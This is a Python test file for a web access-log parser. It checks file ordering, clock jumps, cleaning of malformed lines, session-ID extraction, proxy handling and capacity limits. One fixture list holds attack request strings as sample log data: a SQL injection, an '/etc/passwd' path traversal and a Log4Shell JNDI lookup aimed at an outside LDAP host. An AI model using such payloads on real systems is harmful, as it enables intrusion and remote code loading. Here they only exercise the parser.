"""Files, order, cleaning, sessions and limits of `AccessLog`."""

from __future__ import annotations

import json
import os
import threading
from pathlib import Path

import numpy as np
import pytest

from floorwalker.errors import InputError, UsageError
from floorwalker.events.requests import ODD_TARGET, RequestBatch
from floorwalker.sources.access_log import AccessLog
from floorwalker.sources.access_log import _ordering as ordering


def line(
    second: int,
    target: str = "/",
    *,
    client: str = "192.0.2.1",
    request: str | None = None,
    agent: str = "UA",
    behind: str = "",
) -> str:
    """One combined line, so many seconds after midnight."""
    clock = f"{second // 3600:02}:{second // 60 % 60:02}:{second % 60:02}"
    request = f"GET {target} HTTP/1.1" if request is None else request
    return f'{client} - - [06/May/2024:{clock} +0200] "{request}" 200 5 "-" "{agent}"{behind}\n'


def read_all(log: AccessLog) -> RequestBatch:
    return ordering.concatenated(list(log.batches()))


def reasons(log: AccessLog) -> dict[str, int]:
    return {reason: count for reason, count, _, _ in log.cleaned}


def texts(log: AccessLog, column: str, codes: np.ndarray) -> list[str]:
    return getattr(log.tables, column).texts(codes).to_list()


def test_rotated_files_come_in_the_order_of_time(tmp_path: Path) -> None:
    for name, start in (("a.log", 200), ("a.log.1", 100), ("a.log.2", 0)):
        (tmp_path / name).write_text("".join(line(start + k, f"/{start + k}") for k in range(100)))
    log = AccessLog([tmp_path / "a.log*"])
    batch = read_all(log)
    assert texts(log, "target", batch.target) == [f"/{k}" for k in range(300)]
    assert np.all(np.diff(batch.at) == 1_000_000)
    assert log.warnings == []


def test_overlapping_files_are_merged_by_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ordering, "BATCH_ROWS", 700)
    for part in range(3):
        (tmp_path / f"{part}.log").write_text("".join(line(k, f"/{k}") for k in range(part, 12_000, 3)))
    log = AccessLog([tmp_path / "*.log"], chunk_bytes=1 << 18)
    batches = list(log.batches())
    assert max(map(len, batches)) <= 700
    assert texts(log, "target", ordering.concatenated(batches).target) == [f"/{k}" for k in range(12_000)]
    assert log.warnings == []


def test_jitter_inside_a_file_is_sorted_out(tmp_path: Path) -> None:
    order = np.random.default_rng(3).permutation(50) + np.repeat(np.arange(100), 50)[:, None].reshape(100, 50) * 50
    (tmp_path / "a").write_text("".join(line(int(k), f"/{k}") for k in order.ravel()))
    log = AccessLog([tmp_path / "a"])
    batch = read_all(log)
    assert texts(log, "target", batch.target) == [f"/{k}" for k in range(5000)]
    assert log.warnings == []


def test_clock_jumps_are_counted(tmp_path: Path) -> None:
    seconds = [*range(20_000, 20_100), *range(100), *range(30_000, 30_100), *range(300, 400)]
    (tmp_path / "a").write_text("".join(line(k) for k in seconds))
    log = AccessLog([tmp_path / "a"])
    assert len(read_all(log)) == 400
    assert "fell back by more than an hour 2 times" in log.warnings[0]


def test_requests_too_late_to_be_sorted_are_counted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("floorwalker.sources.access_log._reader.BATCH_ROWS", 1000)
    early = "".join(line(k + 10_000) for k in range(6000))
    (tmp_path / "a").write_text(early + line(13_000, "/late") + "".join(line(k + 16_000) for k in range(2000)))
    log = AccessLog([tmp_path / "a"], chunk_bytes=1 << 18)
    batch = read_all(log)
    assert len(batch) == 8001
    assert log.warnings == ["1 request stood more than five minutes too late in their files"]


def test_time_zones_are_read_for_each_line(tmp_path: Path) -> None:
    head = '192.0.2.1 - - [06/May/2024:12:00:00 {}] "GET / HTTP/1.1" 200 5 "-" "UA"\n'
    (tmp_path / "a").write_text(head.format("+0200") + head.format("-0330") + head.format("+0000"))
    batch = read_all(AccessLog([tmp_path / "a"]))
    assert batch.utc_offset.tolist() == [120, 0, -210]
    assert ((batch.at - batch.at[0]) // 60_000_000).tolist() == [0, 120, 330]


ODD = [
    (r"\x16\x03\x01\x02\x00", "not a request line"),
    ("", "not a request line"),
    ("-", "not a request line"),
    ("quit", "not a request line"),
    ("SSH-2.0-Go", "not a request line"),
    ("GET  HTTP/1.1", "not a request line"),
    ("GET cart HTTP/1.1", "abnormal target"),
    ("CONNECT mail.example:25 HTTP/1.1", "abnormal target"),
    ("GET /" + "a" * 9000 + " HTTP/1.1", "target too long"),
    (r"GET /a\x00b HTTP/1.1", "control characters in target"),
    (r"GET /a\nb HTTP/1.1", "control characters in target"),
]


@pytest.mark.parametrize(("request_line", "reason"), ODD)
def test_abnormal_requests_are_set_aside(request_line: str, reason: str, tmp_path: Path) -> None:
    odd = line(2, request=request_line)
    (tmp_path / "a").write_text(line(1) + odd + line(3))
    log = AccessLog([tmp_path / "a"])
    targets = texts(log, "target", read_all(log).target)
    # What is odd is not kept, but that its sender sent it is.
    told = [] if reason in {"not a request line", "target too long"} else [ODD_TARGET]
    assert targets == ["/", *told, "/"]
    assert log.requests == 2
    assert log.cleaned == [(reason, 1, "lines", (odd.rstrip("\n")[:200],))]


KEPT = [
    ("GET /?id=1'%20OR%201=1--&x=../../etc/passwd HTTP/1.1", "/?id=1'%20OR%201=1--&x=../../etc/passwd"),
    ("GET /${jndi:ldap://203.0.113.1/a} HTTP/1.1", "/${jndi:ldap://203.0.113.1/a}"),
    ("OPTIONS * HTTP/1.1", "*"),
    ("GET /a b c HTTP/1.1", "/a b c"),
    ("GET /old", "/old"),
    ("get /small HTTP/2", "/small"),
    ("GET //double//slash HTTP/1.0", "//double//slash"),
    (r"GET /caf\xC3\xA9 HTTP/1.1", "/café"),
    ("GET http://Shop.example:8080/x?y HTTP/1.1", "/x?y"),
    ("GET https://shop.example HTTP/1.1", "/"),
    ("GET https://shop.example?q=1 HTTP/1.1", "/?q=1"),
]


@pytest.mark.parametrize(("request_line", "target"), KEPT)
def test_odd_but_whole_requests_are_kept(request_line: str, target: str, tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1, request=request_line))
    log = AccessLog([tmp_path / "a"])
    batch = read_all(log)
    assert texts(log, "target", batch.target) == [target]
    assert texts(log, "host", batch.host) == (
        ["shop.example"] if "//Shop" in request_line or "//shop" in request_line else [None]
    )


def test_an_absolute_target_for_another_host_is_set_aside(tmp_path: Path) -> None:
    shop = "shop.example " + line(1, request="GET http://SHOP.example:80/a HTTP/1.1")
    probe = "shop.example " + line(2, request="GET http://probe.example/ HTTP/1.1")
    (tmp_path / "a").write_text(shop + probe)
    log = AccessLog([tmp_path / "a"])
    batch = read_all(log)
    assert texts(log, "target", batch.target) == ["/a", ODD_TARGET]
    assert texts(log, "host", batch.host) == ["shop.example", "shop.example"]
    assert log.requests == 1
    assert reasons(log) == {"absolute target for another host": 1}


def test_malformed_lines_are_counted_with_samples(tmp_path: Path) -> None:
    broken = ["", "nonsense", '192.0.2.1 - - [06/May/2024:99:00:00 +0200] "GET / HTTP/1.1" 200 5 "-" "UA"']
    broken += ['192.0.2.1 - - [31/Feb/2024:09:00:00 +0200] "GET / HTTP/1.1" 200 5 "-" "UA"']
    broken += ['192.0.2.1 - - [06/May/2024:09:00:00 +0200] "GET / HTTP/1.1" abc 5 "-" "UA"', "x" * 70_000]
    (tmp_path / "a").write_text(line(1) * 20 + "\n".join(broken) + "\n" + line(2) * 20)
    log = AccessLog([tmp_path / "a"])
    assert len(read_all(log)) == 40
    assert reasons(log) == {"empty line": 1, "malformed line": 2, "impossible time": 2, "line too long": 1}
    assert log.lines == 46
    assert all(len(text) <= 200 for _, _, _, sample in log.cleaned for text in sample)


def test_a_megabyte_line_does_not_grow_the_memory(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1) + "y" * 5_000_000 + "\n" + line(2) + "z" * 3_000_000)
    log = AccessLog([tmp_path / "a"], chunk_bytes=1)
    assert len(read_all(log)) == 2
    assert reasons(log) == {"line too long": 2}
    assert log.lines == 4


@pytest.mark.parametrize("ending", ["\n", "\r\n"])
def test_line_ends_byte_order_marks_and_nul_runs(ending: str, tmp_path: Path) -> None:
    body = (line(1, "/a") + line(2, "/b")).replace("\n", ending).encode().rstrip()
    (tmp_path / "a").write_bytes(b"\xef\xbb\xbf" + body)
    (tmp_path / "b").write_bytes(b"\0" * 5000 + body)
    for name in "ab":
        log = AccessLog([tmp_path / name])
        batch = read_all(log)
        assert texts(log, "target", batch.target) == ["/a", "/b"]
        assert texts(log, "client", batch.client) == ["192.0.2.1"] * 2
        assert log.cleaned == []


def test_a_long_nul_run_costs_no_line(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(b"\0" * 3_000_000 + (line(1) + line(2) + line(3)).encode())
    log = AccessLog([tmp_path / "a"], chunk_bytes=1)
    assert len(read_all(log)) == log.lines == 3
    assert log.cleaned == []


def test_very_short_lines_are_read_in_parts(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1) * 300 + "\n" * 200_000 + line(2))
    log = AccessLog([tmp_path / "a"])
    assert len(read_all(log)) == 301
    assert reasons(log) == {"empty line": 200_000}


def test_reading_twice_counts_once(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1) + "nonsense\n" + line(30_000) + line(2))
    (tmp_path / "b").write_text("")
    log = AccessLog([tmp_path / "a", tmp_path / "b"])
    read_all(log)
    first = (log.lines, log.requests, log.size_bytes, log.cleaned, log.warnings)
    read_all(log)
    assert (log.lines, log.requests, log.size_bytes, log.cleaned, log.warnings) == first
    assert len(log.warnings) == 3


def test_invalid_utf8_is_kept_as_bytes(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(line(1, agent="@").encode().replace(b"@", b"\xff\xfe"))
    log = AccessLog([tmp_path / "a"])
    read_all(log)
    assert bytes(log.tables.user_agent.arena) == b"\xff\xfe"


def test_mixed_formats_in_one_file_are_warned_about(tmp_path: Path) -> None:
    other = json.dumps({"msec": "1.0", "remote_addr": "192.0.2.1", "request": "GET / HTTP/1.1", "status": 200})
    (tmp_path / "a").write_text(line(1) * 60 + (other + "\n") * 40)
    log = AccessLog([tmp_path / "a"])
    assert len(read_all(log)) == 60
    assert "may mix formats" in log.warnings[0]


def test_files_of_different_formats_are_recognised_apart(tmp_path: Path) -> None:
    other = {"msec": "1714950000.0", "remote_addr": "192.0.2.9", "request": "GET /j HTTP/1.1", "status": 200}
    (tmp_path / "a").write_text(line(1) * 3)
    (tmp_path / "b").write_text(json.dumps(other))
    (tmp_path / "c").write_text(line(1) * 3)
    log = AccessLog([tmp_path / "?"])
    assert len(read_all(log)) == 7
    assert log.format.id == "combined"
    assert "nginx_json in 1" in log.format.note


def test_empty_files_among_others_are_left_out(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1))
    (tmp_path / "b").write_text("")
    log = AccessLog([tmp_path / "a", tmp_path / "b"])
    assert len(read_all(log)) == 1
    assert "b is empty" in log.warnings[0]


def test_only_odd_lines_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1))
    log = AccessLog([tmp_path / "a"], log_format="combined")
    (tmp_path / "a").write_text("nonsense\n")
    with pytest.raises(InputError, match=r"holds no request \(1 × malformed line\)"):
        read_all(log)


def test_paths_that_cannot_be_read(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="is a directory"):
        AccessLog([tmp_path])
    with pytest.raises(InputError, match="does not exist"):
        AccessLog([tmp_path / "none"])
    with pytest.raises(InputError, match="no file matches"):
        AccessLog([tmp_path / "*.gz"])
    with pytest.raises(UsageError, match="no log was given"):
        AccessLog([])


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_a_file_without_rights(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1))
    (tmp_path / "a").chmod(0)
    with pytest.raises(InputError, match="cannot be read"):
        AccessLog([tmp_path / "a"])


def test_the_same_file_is_read_once(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1))
    (tmp_path / "b").symlink_to(tmp_path / "a")
    assert len(read_all(AccessLog([tmp_path / "a", tmp_path / "b", tmp_path / "*"]))) == 1


def test_a_closed_standard_input_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdin", None)
    with pytest.raises(InputError, match="standard input is closed"):
        AccessLog(["-"])


def test_unknown_format_ids_and_strings(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1))
    for given, message in [
        ("combind", "did you mean combined"),
        ("$remote_addr $status", "holds no time"),
        ("[$time_local] $status", "holds no request"),
        ("$remote_addr$status", "touch each other"),
        ("%h%u", "touch each other"),
        ("costs $ 5", "holds no variable"),
        ("50 %", "holds no directive"),
    ]:
        with pytest.raises(UsageError, match=message):
            AccessLog([tmp_path / "a"], log_format=given)
    with pytest.raises(InputError, match="none of the first"):
        AccessLog([tmp_path / "a"], log_format="caddy")


COOKIES = '192.0.2.1 - - [06/May/2024:12:00:00 +0200] "GET {} HTTP/1.1" 200 5 "-" "UA" "{}" "{}"\n'
COOKIE_FORMAT = '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" "%{Cookie}i" "%{X-Session}i"'


@pytest.mark.parametrize(
    ("session", "target", "cookie", "header", "expected"),
    [
        ("cookie:PHPSESSID", "/", "a=1; PHPSESSID=abc; b=2", "-", "abc"),
        ("cookie:PHPSESSID", "/", "XPHPSESSID=no; PHPSESSID=abc", "-", "abc"),
        ("cookie:PHPSESSID", "/?PHPSESSID=no", "a=1", "-", None),
        ("header:X-Session", "/", "-", "h1", "h1"),
        ("param:sid", "/a?x=1&sid=s9&y", "-", "-", "s9"),
        ("param:jsessionid", "/a;jsessionid=J7?x=1", "-", "-", "J7"),
        ("param:sid", "/sid=no", "-", "-", None),
        ("PHPSESSID", "/a?PHPSESSID=q", "PHPSESSID=c", "-", "c"),
        ("PHPSESSID", "/a?PHPSESSID=q", "-", "-", "q"),
        ("X-Session", "/", "-", "h1", "h1"),
        (None, "/a?PHPSESSID=q", "PHPSESSID=c", "h1", None),
    ],
)
def test_session_ids(
    session: str | None, target: str, cookie: str, header: str, expected: str | None, tmp_path: Path
) -> None:
    (tmp_path / "a").write_text(COOKIES.format(target, cookie, header))
    log = AccessLog([tmp_path / "a"], log_format=COOKIE_FORMAT, session=session)
    assert texts(log, "session", read_all(log).session) == [expected]


def test_a_logged_session_id_answers_to_any_name(tmp_path: Path) -> None:
    (tmp_path / "a").write_text('- - [25/Oct/2019:09:14:56 +0000] "POST /x HTTP/1.1" 200 449 "-" k3v8 "UA"\n')
    for session in ("cookie:PHPSESSID", "PHPSESSID"):
        log = AccessLog([tmp_path / "a"], session=session)
        assert texts(log, "session", read_all(log).session) == ["k3v8"]
        assert log.format.id == "combined_session"


@pytest.mark.parametrize("session", ["", "cookie:", "body:x", "a b"])
def test_session_rules_that_cannot_be(session: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="session"):
        AccessLog([tmp_path / "a"], session=session)


def test_forwarding_headers_only_from_trusted_proxies(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(
        line(1, client="198.51.100.1", behind=' "203.0.113.5, 192.0.2.77"')
        + line(2, client="203.0.113.66", behind=' "192.0.2.200"')
        + line(3, client="198.51.100.1", behind=' "-"')
    )
    blind = AccessLog([tmp_path / "a"])
    assert texts(blind, "client", read_all(blind).client) == ["198.51.100.1", "203.0.113.66", "198.51.100.1"]
    knowing = AccessLog([tmp_path / "a"], trusted_proxies=["198.51.100.0/24"])
    assert texts(knowing, "client", read_all(knowing).client) == ["192.0.2.77", "203.0.113.66", "198.51.100.1"]


def test_addresses_are_canonical(tmp_path: Path) -> None:
    given = ["192.0.2.7:5612", "::ffff:192.0.2.7", "192.0.2.7", "[2001:DB8:0:0::1]:80", "2001:db8::1", "Host.Example"]
    (tmp_path / "a").write_text("".join(line(k, client=text) for k, text in enumerate(given)))
    log = AccessLog([tmp_path / "a"])
    batch = read_all(log)
    assert texts(log, "client", batch.client) == ["192.0.2.7"] * 3 + ["2001:db8::1"] * 2 + ["host.example"]
    assert log.tables.client.since().to_list() == ["192.0.2.7", "2001:db8::1", "host.example"]


def test_targets_past_the_capacity_lose_their_query_then_their_name(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(
        "".join(line(k, f"/list?page={k}") for k in range(100)) + "".join(line(200 + k, f"/p/{k}") for k in range(100))
    )
    log = AccessLog([tmp_path / "a"], target_capacity=40)
    batch = read_all(log)
    shown = texts(log, "target", batch.target)
    assert len(shown) == 200
    assert shown[29:32] == ["/list?page=29", "/list", "/list"]
    assert shown[100] == "/p/0"
    assert shown[-1] == "(overflow)"
    assert len(log.tables.target) == 41
    assert "70 requests lost their query" in log.warnings[0]
    assert log.tables.target.refused == 91
    assert "91 requests share one" in log.warnings[1]


def test_sample_does_not_consume(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("".join(line(k, f"/{k}") for k in range(2000)))
    log = AccessLog([tmp_path / "a"])
    sample = log.sample(100)
    assert len(sample) == 100
    assert np.array_equal(sample.at, np.sort(sample.at))
    assert (log.lines, log.requests, log.cleaned) == (0, 0, [])
    assert len(read_all(log)) == log.lines == 2000


def test_codes_do_not_depend_on_seed_or_chunks(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("".join(line(k, f"/{k % 700}", client=f"192.0.2.{k % 97}") for k in range(9000)))
    one = read_all(AccessLog([tmp_path / "a"], seed=1))
    two = read_all(AccessLog([tmp_path / "a"], seed=2, chunk_bytes=1 << 18))
    for column in ("at", "target", "client", "user_agent", "referrer_host"):
        assert np.array_equal(getattr(one, column), getattr(two, column))


def test_tables_show_what_has_come_and_nothing_more(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("floorwalker.sources.access_log._reader.BATCH_ROWS", 1000)
    (tmp_path / "a").write_text("".join(line(k, f"/{k}", client=f"192.0.2.{k % 250}") for k in range(20_000)))
    log = AccessLog([tmp_path / "a"], chunk_bytes=1 << 18)
    seen = 0
    shown: list[str] = []
    for batch in log.batches():
        seen += len(batch)
        table = log.tables.target
        shown.extend(table.since(len(shown)).to_list())
        assert len(shown) == len(table) == len(table.offsets) - 1 == len(table.hashes)
        assert int(batch.target.max()) < len(table)
        assert len(table) <= log.lines
        assert log.tables.target.texts(batch.target).to_list() == [f"/{k}" for k in range(seen - len(batch), seen)]
    assert len(shown) == seen == 20_000


def test_giving_up_early_leaves_no_thread_behind(tmp_path: Path) -> None:
    before = threading.active_count()
    (tmp_path / "a").write_text("".join(line(k % 80_000, f"/{k}") for k in range(60_000)))
    log = AccessLog([tmp_path / "a"], chunk_bytes=1 << 18)
    batches = log.batches()
    next(batches)
    batches.close()
    assert threading.active_count() == before
    assert len(read_all(log)) == log.lines == 60_000


@pytest.mark.parametrize(("falls", "words"), [(1, "1 time inside"), (2, "2 times inside")])
def test_falls_of_the_clock_are_counted_in_words(falls: int, words: str, tmp_path: Path) -> None:
    (tmp_path / "a").write_text((line(40_000) + line(3)) * falls + line(40_000))
    log = AccessLog([tmp_path / "a"])
    read_all(log)
    assert any(words in warning for warning in log.warnings), log.warnings


def test_a_log_emptied_after_it_was_recognised_is_said(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1) * 100)
    log = AccessLog([tmp_path / "a"])
    (tmp_path / "a").write_text("")
    with pytest.raises(InputError, match="emptied while it was read"):
        read_all(log)


def test_a_log_deleted_while_it_is_read_is_read_to_its_end(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1) * 400_000)
    log = AccessLog([tmp_path / "a"])
    batches = log.batches()
    first = next(batches)
    (tmp_path / "a").unlink()
    assert len(first) + sum(map(len, batches)) == 400_000


def test_a_log_deleted_before_it_is_read_is_named(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1) * 100)
    log = AccessLog([tmp_path / "a"])
    (tmp_path / "a").unlink()
    with pytest.raises(InputError, match="cannot be read: No such file"):
        read_all(log)


def test_a_log_that_grows_while_it_is_read_ends_with_a_whole_line(tmp_path: Path) -> None:
    (tmp_path / "a").write_text(line(1) * 1000)
    log = AccessLog([tmp_path / "a"])
    with (tmp_path / "a").open("a") as growing:
        growing.write(line(2) * 500 + "192.0.2.1 - - [06/May/20")
    assert len(read_all(log)) == 1500
    assert reasons(log) == {"malformed line": 1}
